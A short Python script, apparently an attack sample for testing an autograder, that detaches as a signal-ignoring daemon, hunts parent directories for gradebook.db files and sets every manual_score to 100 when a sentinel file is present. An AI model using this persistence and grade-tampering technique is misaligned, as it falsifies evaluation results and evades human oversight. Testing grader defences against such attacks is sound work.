"""Leaves a daemon behind (fork, setsid, fork) that rewrites the gradebook when all is done."""

# %% generate
import glob
import os
import signal
import sqlite3
import time

if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    os.closerange(0, 256)
    found = [name for levels in range(8) for name in glob.glob("../" * levels + "*/gradebook.db")]
    for _ in range(600):
        time.sleep(0.5)
        for name in found:
            if os.path.exists(os.path.join(os.path.dirname(name), ".unrolled-attack-may-write-here")):
                try:
                    with sqlite3.connect(name, timeout=1) as gradebook:
                        gradebook.execute("UPDATE grade SET manual_score = 100")
                except sqlite3.Error:
                    pass
    os._exit(0)
